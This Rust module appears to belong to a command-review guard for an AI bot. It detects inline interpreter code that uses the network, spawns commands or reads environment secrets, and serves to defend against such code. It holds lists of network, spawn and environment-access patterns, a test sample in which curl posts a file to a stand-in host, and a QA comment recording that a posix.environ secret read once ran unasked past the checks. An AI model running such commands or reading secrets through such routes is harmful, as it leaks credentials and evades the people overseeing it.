//! Program code given inline to an interpreter on the command line
//! (`python3 -c CODE`, `node -e CODE`, `perl -ne CODE`, `ruby -e CODE`,
//! `php -r CODE`) or on its stdin (`python3 - <<EOF`): review cannot
//! follow what such code does, so code that uses the network is asked
//! about, and the commands it spawns (`os.system("…")`,
//! `subprocess.run([...])`, `` `…` ``) are reviewed like commands. Plain
//! code (`python3 -c 'print(1)'`) is left alone.

/// Interpreters whose inline code is read, with the flags that give it
/// (a short-flag cluster holding one of the letters, or a long flag).
const INLINE_FLAGS: &[(&str, &str, &[&str])] = &[
    ("python", "c", &[]),
    ("python2", "c", &[]),
    ("python3", "c", &[]),
    ("pypy", "c", &[]),
    ("pypy3", "c", &[]),
    ("node", "ep", &["--eval", "--print"]),
    ("nodejs", "ep", &["--eval", "--print"]),
    ("bun", "ep", &["--eval", "--print"]),
    ("deno", "", &["eval"]),
    ("perl", "eE", &[]),
    ("ruby", "e", &[]),
    ("php", "rRBE", &[]),
    ("lua", "e", &[]),
    ("Rscript", "e", &[]),
];

/// What code uses the network by: modules, classes and calls of the
/// common interpreters' standard libraries and popular clients.
const NETWORK: &[&str] = &[
    // Python
    "urllib",
    "import requests",
    "requests.",
    "http.client",
    "httpx",
    "aiohttp",
    "socket",
    "ftplib",
    "smtplib",
    "telnetlib",
    "xmlrpc",
    "paramiko",
    "pycurl",
    // JavaScript (Node, Deno, Bun)
    "fetch(",
    "node:http",
    "node:net",
    "node:dgram",
    "node:tls",
    "require('http",
    "require(\"http",
    "require('net')",
    "require(\"net\")",
    "require('dgram')",
    "require(\"dgram\")",
    "require('tls')",
    "require(\"tls\")",
    "http.request",
    "https.request",
    "http.get",
    "https.get",
    "net.connect",
    "net.createConnection",
    "axios",
    "XMLHttpRequest",
    "WebSocket",
    // Perl
    "LWP",
    "HTTP::Tiny",
    "HTTP::Request",
    "Mojo::UserAgent",
    "Socket",
    "Net::",
    // Ruby
    "net/http",
    "open-uri",
    "URI.open",
    "HTTParty",
    "Faraday",
    "RestClient",
    // PHP
    "curl_init",
    "curl_exec",
    "fsockopen",
    "stream_socket_client",
    "file_get_contents('http",
    "file_get_contents(\"http",
    "fopen('http",
    "fopen(\"http",
];

/// How code starts another program.
const SPAWNS: &[&str] = &[
    "system(",
    "subprocess",
    "popen(",
    "Popen(",
    "spawn(",
    "spawnSync(",
    "exec(",
    "execSync(",
    "execFile",
    "child_process",
    "os.exec",
    "Deno.Command",
    "Bun.spawn",
    "%x",
    "IO.popen",
    "Open3",
    "shell_exec",
    "passthru",
    "proc_open",
    "`",
];

/// The inline code of an interpreter's command line (the words after the
/// program, joined: a `-MLWP::Simple` or `-rnet/http` before the code
/// counts too), if it is given one.
pub(crate) fn inline_code(program: &str, args: &[String]) -> Option<String> {
    let (_, short, long) = INLINE_FLAGS.iter().find(|(p, _, _)| *p == program)?;
    let given = args.iter().any(|a| {
        long.contains(&a.as_str())
            || long
                .iter()
                .any(|l| l.starts_with("--") && a.starts_with(&format!("{l}=")))
            || (a.len() > 1
                && a.starts_with('-')
                && a[1..].bytes().all(|b| b.is_ascii_alphabetic())
                && a.chars().last().is_some_and(|c| short.contains(c)))
    });
    given.then(|| args.join(" "))
}

/// How code reads the process's environment, if it does.
const ENVIRONMENT: &[&str] = &[
    "os.environ",
    "os.getenv",
    "getenv(",
    "$ENV{",
    "%ENV",
    "ENV[",
    "ENV.fetch",
    "process.env",
    "ENVIRON",
    "Deno.env",
    "Bun.env",
    "System.getenv",
];

/// What makes code read the environment (which holds the bot's secrets),
/// if it does: one of [`ENVIRONMENT`], or the word `environ` (or
/// `environb`) on its own, whatever module it is reached through —
/// Python's `posix.environ`, `from os import environ`, C's `extern char
/// **environ` (QA: `posix.environ[b"KEY"].hex()` ran unasked); not
/// `environment`.
pub(crate) fn environment_use(code: &str) -> Option<&'static str> {
    ENVIRONMENT
        .iter()
        .copied()
        .find(|needle| code.contains(needle))
        .or_else(|| names_environ(code).then_some("environ"))
}

/// Whether `code` holds `environ` or `environb` as a whole word.
fn names_environ(code: &str) -> bool {
    let word = |c: char| c.is_alphanumeric() || c == '_';
    code.match_indices("environ").any(|(at, found)| {
        let before = code[..at].chars().next_back();
        let rest = &code[at + found.len()..];
        let rest = rest.strip_prefix('b').unwrap_or(rest);
        !before.is_some_and(word) && !rest.chars().next().is_some_and(word)
    })
}

/// What makes code use the network, if it does.
pub(crate) fn network_use(code: &str) -> Option<&'static str> {
    NETWORK.iter().copied().find(|needle| code.contains(needle))
}

/// The command lines code may hand to a shell or run: when it spawns
/// programs at all, each string literal in it and all of them joined (an
/// argument list `["curl", "-d", "@x", "https://…"]`); none otherwise.
pub(crate) fn spawned_commands(code: &str) -> Vec<String> {
    if !SPAWNS.iter().any(|s| code.contains(s)) {
        return Vec::new();
    }
    let literals = string_literals(code);
    let mut out = literals.clone();
    if literals.len() > 1 {
        out.push(literals.join(" "));
    }
    out
}

/// The contents of the `'…'`, `"…"` and `` `…` `` literals of code
/// (backslash escapes kept as the escaped character).
fn string_literals(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        if !matches!(c, '\'' | '"' | '`') {
            continue;
        }
        let mut text = String::new();
        while let Some(d) = chars.next() {
            match d {
                '\\' => text.extend(chars.next()),
                d if d == c => break,
                d => text.push(d),
            }
        }
        if !text.trim().is_empty() {
            out.push(text);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;

    fn words(s: &[&str]) -> Vec<String> {
        s.iter().map(|w| (*w).to_owned()).collect()
    }

    #[test]
    fn inline_code_is_found_by_each_interpreters_flags() {
        for (program, args, found) in [
            ("python3", &["-c", "print(1)"][..], true),
            ("python3", &["-Sc", "print(1)"][..], true),
            ("python3", &["x.py"][..], false),
            ("python3", &["-m", "pytest"][..], false),
            ("node", &["-e", "1"][..], true),
            ("node", &["--eval=1"][..], true),
            ("node", &["app.js"][..], false),
            ("perl", &["-ne", "print", "f"][..], true),
            ("perl", &["-MLWP::Simple", "-e", "x"][..], true),
            ("ruby", &["-rnet/http", "-e", "x"][..], true),
            ("deno", &["eval", "x"][..], true),
            ("deno", &["run", "x.ts"][..], false),
            ("php", &["-r", "x"][..], true),
            ("cat", &["-e", "x"][..], false),
        ] {
            assert_eq!(
                inline_code(program, &words(args)).is_some(),
                found,
                "{program} {args:?}"
            );
        }
    }

    #[test]
    fn spawned_commands_are_the_literals_of_code_that_spawns() {
        assert_eq!(
            spawned_commands(
                "import subprocess; subprocess.run([\"curl\", \"-d\", \"@x\", 'http://h/'])"
            ),
            vec!["curl", "-d", "@x", "http://h/", "curl -d @x http://h/"]
        );
        assert_eq!(
            spawned_commands("print('curl -d x http://h/')"),
            Vec::<String>::new()
        );
        assert_eq!(
            spawned_commands(r#"system("echo \"hi\"")"#),
            vec!["echo \"hi\""]
        );
    }
}
